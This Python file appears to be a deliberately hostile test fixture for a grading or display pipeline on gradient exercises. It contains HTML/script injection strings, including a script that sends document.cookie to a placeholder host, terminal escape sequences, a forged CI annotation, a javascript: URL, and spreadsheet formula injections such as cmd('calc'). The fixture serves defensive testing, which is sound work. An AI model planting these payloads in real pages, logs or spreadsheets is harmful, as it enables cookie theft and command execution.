# A hostile sample made for this class: markup, scripts, terminal codes and spreadsheet formulas wherever text is shown.
import numpy as np

SCRIPT = "<script>document.title='owned';fetch('http://example.invalid/'+document.cookie)</script>"
IMAGE = "\"'><img src=x onerror=\"document.title='owned'\">"
TERMINAL = "\x1b[2J\x1b]0;owned\x07\x1b[31m10/10\x1b[0m\r\x08\x00\u202e"

print(SCRIPT, IMAGE, TERMINAL, "]]>", "</textarea></pre></body></html>")
print("::error file=answers.py,line=1::owned")


def twice_dot(x):
    raise ValueError(SCRIPT + IMAGE + TERMINAL + "]]>")


squares = f"2*x*upstream{SCRIPT}"


class Broken(Exception):
    def __str__(self):
        raise RuntimeError("even to ask me is a mistake")


Broken.__name__ = Broken.__qualname__ = "<b>Broken</b>\x1b[1m"


def doubling(a):
    raise Broken


def row_plus_column(row, column, upstream):
    return {IMAGE: upstream, "=HYPERLINK(\"http://example.invalid\",\"marks\")": upstream, TERMINAL: upstream}


relu_at_zero = {"x": "where(x > 0, upstream, 0)", IMAGE: SCRIPT}


def cross_entropy(logits, labels):
    return IMAGE


distance = {"p": "javascript:alert(1)", "q": "=1+1+cmd('calc')"}


def matrix_product(a, b, upstream):
    return upstream @ b.T, a.T @ upstream
